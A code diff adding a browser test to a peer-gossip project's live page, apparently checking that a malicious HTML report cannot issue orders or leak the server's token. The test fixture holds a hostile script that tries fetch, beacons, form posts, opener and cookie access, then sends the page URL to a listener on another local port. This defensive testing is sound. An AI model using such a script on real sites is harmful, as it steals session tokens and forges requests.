@@ -1,16 +1,21 @@
-"""The live page in a real browser: ten peers, of which one is killed.
+"""The live page in a real browser: ten peers, of which one is killed; and a hostile report.
 
 Skipped where no browser is installed."""
 
 import json
 import re
 import signal
+import socket
+import threading
 
 import pytest
 
+from gossip.pictures.live_follow import Follow
+from gossip.pictures.live_page import page
+from gossip.pictures.live_server import Server
 from tests.tools.browser import BROWSER, Browser
 from tests.tools.nets import FAST
-from tests.tools.ports import free_address
+from tests.tools.ports import free_address, free_port
 from tests.tools.programs import Program, write_config
 from tests.tools.waiting import wait_until
 
@@ -105,3 +110,66 @@ def test_a_kill_is_seen_as_it_happens_and_undone_by_the_slider(net, tmp_path_fac
         assert url in asked and [one for one in asked if not one.startswith((url, "data:"))] == []
         watcher.process.send_signal(signal.SIGINT)
         assert watcher.process.wait(30) == 0
+
+
+SCRIPT = """<!DOCTYPE html><meta name="referrer" content="unsafe-url"><p id="p"></p><script>
+const tried = [];
+const attempt = (what, action) => { try { action(); tried.push(what); } catch (error) { } };
+attempt("fetch", () => fetch("do", {method: "POST", body: "{}",
+  headers: {"Content-Type": "application/json"}}).catch(() => 0));
+attempt("beacon", () => navigator.sendBeacon("do", "{}"));
+attempt("form", () => { const form = document.createElement("form"); form.method = "post";
+  form.action = "do"; document.body.append(form); form.submit(); });
+attempt("window", () => { if (!window.open("./")) throw 0; });
+attempt("opener", () => opener.document.URL);
+attempt("cookie", () => document.cookie);
+attempt("frame", () => { const frame = document.createElement("iframe"); frame.src = "./";
+  document.body.append(frame); });
+location = "http://127.0.0.1:PORT/" + encodeURIComponent(document.URL);
+</script>"""
+
+
+class Elsewhere:
+    """A server of somebody else on this machine, which hears what a page tells it."""
+
+    def __init__(self):
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self._listener.getsockname()[1]
+
+    def hear(self) -> str:
+        """The head of the next request."""
+        self._listener.settimeout(60)
+        sock, _ = self._listener.accept()
+        with sock, sock.makefile("rb") as stream:
+            head = b"".join(iter(stream.readline, b"\r\n"))
+            sock.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
+        return head.decode()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *error):
+        self._listener.close()
+
+
+@pytest.mark.skipif(BROWSER is None, reason="needs chromium, google-chrome or chromium-browser")
+def test_a_script_in_the_report_can_tell_nobody_how_to_give_orders(tmp_path, tmp_path_factory):
+    orders, (end, ended) = [], socket.socketpair()
+    with Elsewhere() as elsewhere, Browser(tmp_path_factory.mktemp("browser")) as tab:
+        (tmp_path / "report.html").write_text(SCRIPT.replace("PORT", str(elsewhere.port)))
+        follow = Follow(tmp_path)
+        server = Server(follow, *page(("kill",)), free_port(),
+                        lambda order: orders.append(order) or (200, "done"))
+        serving = threading.Thread(target=server.serve, args=(ended,))
+        serving.start()
+        try:
+            tab.open(server.url)
+            tab.becomes("!document.getElementById('report').hidden", "a link to the report")
+            tab.ask("Page.navigate", url=tab.value("document.getElementById('report').href"))
+            told = elsewhere.hear()
+        finally:
+            end.close()
+            serving.join(60)
+            server.close()
+            ended.close()
+    assert "%2Freport" in told and server.token not in told and orders == []
